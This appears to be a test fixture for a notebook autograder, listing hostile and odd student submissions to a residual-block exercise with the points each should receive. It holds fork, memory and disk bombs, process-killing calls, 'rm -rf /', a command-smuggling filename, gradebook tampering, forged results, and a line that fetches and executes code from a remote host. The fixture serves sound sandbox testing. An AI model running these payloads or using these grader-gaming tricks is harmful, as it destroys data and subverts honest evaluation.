@@ -1,0 +1,406 @@
+"""Submissions of problem set 1 that cheat, break, or are merely odd, with the points that they get.
+
+ANSWERS are texts for the cell of the block; the other answers of these notebooks are right, and
+worth 12 of the 20 points. NOTEBOOKS do something to the file with a right notebook.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import textwrap
+from collections.abc import Callable
+from pathlib import Path
+
+RIGHT = """
+class MyResidual(nn.Block):
+    def __init__(self, num_channels, use_1x1conv=False, strides=1):
+        super().__init__()
+        self.conv1 = nn.Conv2D(num_channels, 3, padding=1, strides=strides)
+        self.conv2 = nn.Conv2D(num_channels, 3, padding=1)
+        self.conv3 = nn.Conv2D(num_channels, 1, strides=strides) if use_1x1conv else None
+        self.bn1, self.bn2 = nn.BatchNorm(), nn.BatchNorm()
+
+    def forward(self, X):
+        Y = self.bn2(self.conv2(npx.relu(self.bn1(self.conv1(X)))))
+        return npx.relu(Y + (self.conv3(X) if self.conv3 else X))
+"""
+
+
+def in_forward(code: str) -> str:
+    """The right block, with something else to do before it computes."""
+    first = "        Y = self.bn2"
+    return RIGHT.replace(first, f"        {code}\n{first}")
+
+
+def returning(result: str) -> str:
+    """The right block, but for what it returns."""
+    return RIGHT.replace("npx.relu(Y + (self.conv3(X) if self.conv3 else X))", result)
+
+
+FOR_EVER = """
+import signal
+signal.setitimer(signal.ITIMER_REAL, 0)
+while True:
+    try:
+        while True: pass
+    except BaseException: pass
+"""
+ALWAYS_EQUAL = """
+class Always(float):
+    def __eq__(self, other): return True
+    def __array__(self, *_): return numpy.zeros((4, 6, 7, 10))
+    def asnumpy(self): return self
+class MyResidual(nn.Block):
+    def __init__(self, *_, **__): super().__init__()
+    def forward(self, X): return Always(0)
+"""
+READS_GRADEBOOK = """
+import glob, sqlite3
+for path in glob.glob('/**/gradebook.db', recursive=True):
+    sqlite3.connect(path).execute('update grade set auto_score = 8').connection.commit()
+"""
+PTRACE = """
+import ctypes
+for pid in range(1, 20):
+    assert ctypes.CDLL(None).ptrace(16, pid, 0, 0) == -1
+"""
+
+ANSWERS = {
+    # right, whatever else happens
+    "right": (RIGHT, 20),
+    "right, with a warning on stderr": (RIGHT + "import sys; print('!', file=sys.stderr)", 20),
+    "right, with warnings": (RIGHT + "import warnings; warnings.warn('careful')", 20),
+    "right, then an error": (RIGHT + "raise ValueError('after')", 20),
+    "right, then exit": (RIGHT + "raise SystemExit(0)", 20),
+    "right, and something at the exit": (
+        RIGHT + "import atexit, time; atexit.register(time.sleep, 10**6)",
+        20,
+    ),
+    "right, with a thread that never ends": (
+        RIGHT + "import threading, time\nthreading.Thread(target=time.sleep, args=[10**6]).start()",
+        20,
+    ),
+    "right, with a daemon left behind": (
+        RIGHT + "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(10**6)",
+        20,
+    ),
+    "right, with the words of a jail that fails": (
+        RIGHT + "import os; os.write(1, b'bwrap: no')",
+        20,
+    ),
+    "right, with another environment": (RIGHT + "import os; os.environ['RESULT'] = '1'", 20),
+    "right, with patched builtins": (RIGHT + "import builtins; builtins.print = None", 20),
+    "right, and a cell magic above": ("%%time\n" + RIGHT, 20),
+    "right, between lines for the shell": ("!rm -rf /\n%timeit 1\n" + RIGHT + "MyResidual?", 20),
+    # no answer
+    "after an error": ("raise ValueError('before')\n" + RIGHT, 12),
+    "no Python": ("class MyResidual(:", 12),
+    "no code at all": ("", 12),
+    "no characters that Python knows": ("\x00\x01" + RIGHT, 12),
+    "exit": ("import sys; sys.exit(0)", 12),
+    "hard exit": ("import os; os._exit(0)", 0),
+    "hard exit when it is asked": (in_forward("import os; os._exit(0)"), 12),
+    "recursion": ("def f(): f()\nf()", 12),
+    "recursion without a limit": (
+        "import sys, threading; sys.setrecursionlimit(10**8)\ndef f(): f()\nf()",
+        0,
+    ),
+    "segmentation fault": ("import ctypes; ctypes.string_at(0)", 0),
+    "segmentation fault when it is asked": (in_forward("import ctypes; ctypes.string_at(0)"), 12),
+    "deletes all names": (RIGHT + "globals().clear()", 8),
+    # bombs
+    "endless loop": ("while True: pass", 12),
+    "endless loop when it is asked": (in_forward("while True: pass"), 12),
+    "endless loop that eats errors": (FOR_EVER, 0),
+    "sleeps": ("import time; time.sleep(10**6)", 12),
+    "endless in C": ("sum(range(10**14))", 0),
+    "fork bomb": ("import os\nwhile True: os.fork()", 0),
+    "memory bomb": ("x = [bytearray(10**8) for _ in range(10**6)]", 12),
+    "disk bomb": ("[open(f'/tmp/{i}', 'wb').write(b'x' * 10**7) for i in range(10**4)]", 12),
+    "output bomb": ("while True: print('x' * 10**6)", 12),
+    "returns too much": (returning("np.zeros((2, 1000, 1000))"), 12),
+    # other processes
+    "kills its parent": ("import os, signal; os.kill(os.getppid(), signal.SIGKILL)", 12),
+    "kills all": ("import os, signal; os.kill(-1, signal.SIGKILL)", 12),
+    "kills its group": ("import os, signal; os.kill(0, signal.SIGKILL)", 0),
+    "ptrace": (PTRACE, 12),
+    "looks into the memory of its parent": ("open('/proc/1/mem', 'rb').read(1)", 12),
+    # forgery
+    "claims full marks": ("import os; os.write(int(os.environ['RESULT']), b'passed: 20/20')", 0),
+    "a pickle": (
+        "import os, pickle; os.write(int(os.environ['RESULT']), pickle.dumps({'points': 20}))",
+        0,
+    ),
+    "writes to every descriptor": (
+        "import os\nfor i in range(3, 256):\n    try: os.write(i, b'RNF1' * 1000)\n"
+        "    except OSError: pass",
+        0,
+    ),
+    "forged frames of zeros": (
+        "import os, numpy\nfrom jailed import frames\nfor n in range(9):\n    os.write("
+        "int(os.environ['RESULT']), frames.write(n, [numpy.zeros((4, 6, 7, 10))] * 2))",
+        0,
+    ),
+    "closes the result": (RIGHT + "import os; os.close(int(os.environ['RESULT']))", 0),
+    "sends the result elsewhere": (RIGHT + "import os; os.dup2(1, int(os.environ['RESULT']))", 0),
+    "takes the questions away": (RIGHT + "import sys; sys.stdin.read()", 0),
+    "prints a table of points": ("print('8 of 8  all right'); 8.0", 12),
+    "always equal": (ALWAYS_EQUAL, 12),
+    "patches numpy's comparison": (
+        "import numpy\nnumpy.allclose = lambda *_, **__: True\n"
+        "numpy.isclose = lambda *_, **__: numpy.ones(1)",
+        12,
+    ),
+    "patches the worker": (
+        "import sys\nmain = sys.modules['__main__']\n"
+        "main.PROCEDURES.update({name: lambda *_, **__: [] for name in main.PROCEDURES})",
+        0,
+    ),
+    "an input transformer": ("get_ipython().input_transformers_cleanup.append(print)", 12),
+    "an AST transformer": ("get_ipython().ast_transformers.append(print)", 12),
+    "not finite": (returning("Y / 0 - Y / 0"), 12),
+    "an array of objects": (returning("numpy.array([object()])"), 12),
+    # looking for what is ready
+    "d2l's block": ("from d2l import mxnet as d2l\nMyResidual = d2l.Residual", 12),
+    "the toolbox's block": ("from utils.resnet import Residual as MyResidual", 12),
+    "the toolbox's other block": (
+        "from utils.families import NormalizedShortcut as MyResidual",
+        12,
+    ),
+    "the toolbox's block, compiled": (
+        "import marshal, glob\nfile, = glob.glob('/course/utils/__pycache__/resnet*.pyc')\n"
+        "exec(marshal.loads(open(file, 'rb').read()[16:]))\nMyResidual = Residual",
+        12,
+    ),
+    "the model zoo's block": (
+        "from mxnet.gluon.model_zoo.vision.resnet import BasicBlockV1\n"
+        "def MyResidual(num_channels, use_1x1conv=False, strides=1):\n"
+        "    return BasicBlockV1(num_channels, strides, use_1x1conv)",
+        12,
+    ),
+    "reads the solution": (
+        "import glob\nfor name in glob.glob('/**/s*/*.py', recursive=True):\n"
+        "    exec(open(name).read())",
+        12,
+    ),
+    "reads the questions": (
+        "import glob\nassert not glob.glob('/**/questions/*', recursive=True)\n"
+        "from questions import ps1",
+        12,
+    ),
+    "writes into the gradebook": (READS_GRADEBOOK, 12),
+    "writes where Python imports from": ("open('/course/utils/resnet.py', 'w').write('')", 12),
+    "asks the network": (
+        "import urllib.request; exec(urllib.request.urlopen('http://192.0.2.1/').read())",
+        12,
+    ),
+    "listens": ("import socket; socket.create_server(('127.0.0.1', 8888)).accept()", 12),
+}
+
+
+def _cell(notebook: dict, grade_id: str) -> dict:
+    return next(cell for cell in notebook["cells"] if cell["id"] == grade_id)
+
+
+def _deleted(notebook: dict) -> None:
+    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["id"].startswith("block")]
+
+
+def _all_checks_deleted(notebook: dict) -> None:
+    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["id"].endswith("check")]
+
+
+def _setup_deleted(notebook: dict) -> None:
+    notebook["cells"] = [c for c in notebook["cells"] if c["id"] not in ("home", "imports")]
+
+
+def _doubled(notebook: dict) -> None:
+    for grade_id in ("block", "block-check", "shapes-check"):
+        notebook["cells"].append(dict(_cell(notebook, grade_id)))
+
+
+def _doubled_with_stub(notebook: dict) -> None:
+    stub = dict(_cell(notebook, "block"))
+    stub["source"] = "class MyResidual(nn.Block):\n    raise NotImplementedError"
+    notebook["cells"].insert(0, stub)
+
+
+def _check_edited(notebook: dict) -> None:
+    cell = _cell(notebook, "block-check")
+    cell["source"] = "8.0"
+    cell["metadata"]["nbgrader"]["points"] = 800
+
+
+def _unlocked(notebook: dict) -> None:
+    for cell in notebook["cells"]:
+        cell["metadata"].pop("editable", None)
+        if "nbgrader" in cell["metadata"]:
+            cell["metadata"]["nbgrader"].update(locked=False, grade=True, solution=True)
+
+
+def _renamed(notebook: dict) -> None:
+    for cell in notebook["cells"]:
+        if "nbgrader" in cell["metadata"]:
+            cell["metadata"]["nbgrader"]["grade_id"] += "-of-mine"
+
+
+def _stripped(notebook: dict) -> None:
+    for cell in notebook["cells"]:
+        cell["metadata"] = {}
+
+
+def _reversed(notebook: dict) -> None:
+    notebook["cells"].reverse()
+
+
+def _insert(notebook: dict, before: str, source: str) -> None:
+    """Put a code cell of the student's before the cell with this id."""
+    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
+    place = notebook["cells"].index(_cell(notebook, before))
+    notebook["cells"].insert(place, {**cell, "id": f"own-{place}", "source": source})
+
+
+def _change(notebook: dict, grade_id: str, old: str, new: str) -> None:
+    cell = _cell(notebook, grade_id)
+    assert old in cell["source"]
+    cell["source"] = cell["source"].replace(old, new)
+
+
+def _helper_elsewhere(notebook: dict) -> None:
+    _change(notebook, "block", "npx.relu", "rectified")
+    source = "raise ValueError\nwhile True: pass\ndef rectified(X):\n    return npx.relu(X)"
+    _insert(notebook, "own-total-check", source)
+
+
+def _trials_in_between(notebook: dict) -> None:
+    trial = "net = MyResidual(3)\nY = net(np.zeros((1, 3, 4, 4)))\nawait something()"
+    _insert(notebook, "block-check", trial)
+    _change(notebook, "shapes", "(side + 1) // 2", "halved_once(side)")
+    _insert(notebook, "shapes-check", "def halved_once(side):\n    return (side + 1) // 2")
+
+
+def _numpy_imported_at_the_end(notebook: dict) -> None:
+    _change(notebook, "block", "Y = self.bn2(", "Z = np.zeros(X.shape)\n        Y = self.bn2(")
+    _insert(notebook, "own-total-check", "import numpy as np")
+
+
+def _in_two_cells(notebook: dict) -> None:
+    first, _, forward = _cell(notebook, "block")["source"].partition("    def forward")
+    _cell(notebook, "block")["source"] = first
+    second = textwrap.dedent(f"    def forward{forward}") + "\nMyResidual.forward = forward"
+    _insert(notebook, "block-check", second)
+
+
+def _in_the_next_cell(notebook: dict) -> None:
+    _insert(notebook, "block-check", _cell(notebook, "block")["source"])
+    _cell(notebook, "block")["source"] = "# my block is in the next cell"
+
+
+def _indented_and_displayed(notebook: dict) -> None:
+    _change(notebook, "shapes", "sides = halved", "display(height)\n    sides = halved")
+    _cell(notebook, "shapes")["source"] = textwrap.indent(_cell(notebook, "shapes")["source"], "  ")
+
+
+def _slow_trials(notebook: dict) -> None:
+    for grade_id in ("block", "shapes", "parameters"):
+        _cell(notebook, grade_id)["source"] += "\nimport time; time.sleep(60)"
+
+
+def _claims_outputs(notebook: dict) -> None:
+    _cell(notebook, "block")["source"] = "pass"
+    _cell(notebook, "block-check")["outputs"] = [
+        {"output_type": "execute_result", "data": {"text/plain": "8.0"}, "metadata": {}}
+    ]
+
+
+def _of_somebody_else(notebook: dict) -> None:
+    _cell(notebook, "student")["source"] = 'student = "eve"\nmy = variant_of(student)'
+
+
+def _halves_of_characters(notebook: dict) -> None:
+    _cell(notebook, "block")["source"] += "\n# \ud800"
+
+
+def rewritten(change: Callable[[dict], None]) -> Callable[[Path], None]:
+    """A change to what a file holds, as a change to the file."""
+
+    def change_file(path: Path) -> None:
+        notebook = json.loads(path.read_text("utf-8"))
+        change(notebook)
+        path.write_text(json.dumps(notebook), "utf-8")
+
+    return change_file
+
+
+def holding(contents: bytes) -> Callable[[Path], None]:
+    """Put something else into the file."""
+    return lambda path: path.write_bytes(contents) and None
+
+
+def _link(path: Path) -> None:
+    path.rename(path.with_name("kept"))
+    path.symlink_to("kept")
+
+
+def _pipe(path: Path) -> None:
+    path.unlink()
+    os.mkfifo(path)
+
+
+def _two(path: Path) -> None:
+    for name in ("first.ipynb", "second.ipynb"):
+        path.with_name(name).write_bytes(path.read_bytes())
+    path.unlink()
+
+
+def _long_line(path: Path) -> None:
+    path.write_bytes(b'{"cells": ["' + b"x" * (100 * 2**20) + b'"]}')
+
+
+def _name_with_a_path(path: Path) -> None:
+    path.rename(path.with_name("..\\..\\ps1;rm -rf.ipynb"))
+
+
+def _deep_folder(path: Path) -> None:
+    folder = path.parent / "a folder" / "and another"
+    folder.mkdir(parents=True)
+    path.rename(folder / path.name)
+
+
+NOTEBOOKS: dict[str, tuple[Callable[[Path], None], float]] = {
+    "cells deleted": (rewritten(_deleted), 12),
+    "checks deleted": (rewritten(_all_checks_deleted), 20),
+    "imports deleted": (rewritten(_setup_deleted), 20),
+    "cells doubled": (rewritten(_doubled), 20),
+    "a stub above": (rewritten(_doubled_with_stub), 20),
+    "check edited": (rewritten(_check_edited), 20),
+    "cells unlocked": (rewritten(_unlocked), 20),
+    "cells renamed": (rewritten(_renamed), 20),
+    "metadata stripped": (rewritten(_stripped), 20),
+    "cells reversed": (rewritten(_reversed), 20),
+    "helper in another cell": (rewritten(_helper_elsewhere), 20),
+    "trials in between": (rewritten(_trials_in_between), 20),
+    "numpy imported at the end": (rewritten(_numpy_imported_at_the_end), 20),
+    "an answer in two cells": (rewritten(_in_two_cells), 20),
+    "an answer in the next cell": (rewritten(_in_the_next_cell), 20),
+    "indented and displayed": (rewritten(_indented_and_displayed), 20),
+    "slow trials below answers": (rewritten(_slow_trials), 20),
+    "fake outputs": (rewritten(_claims_outputs), 12),
+    "of somebody else": (rewritten(_of_somebody_else), 16),
+    "halves of characters": (rewritten(_halves_of_characters), 20),
+    "in a folder of a folder": (_deep_folder, 20),
+    "old format": (rewritten(lambda notebook: notebook.update(nbformat=3)), 0),
+    "cells that are none": (rewritten(lambda notebook: notebook.update(cells=[1, 2])), 0),
+    "broken JSON": (holding(b'{"cells": ['), 0),
+    "deep JSON": (holding(b"[" * 200_000), 0),
+    "empty": (holding(b""), 0),
+    "not UTF-8": (holding("{}".encode("utf-16")), 0),
+    "a program": (holding(b"\x7fELF" + bytes(100)), 0),
+    "a line of 100 MB": (_long_line, 0),
+    "a link": (_link, 0),
+    "a pipe": (_pipe, 0),
+    "a path in the name": (_name_with_a_path, 0),
+    "two notebooks": (_two, 0),
+    "no notebook": (lambda path: path.unlink(), 0),
+}
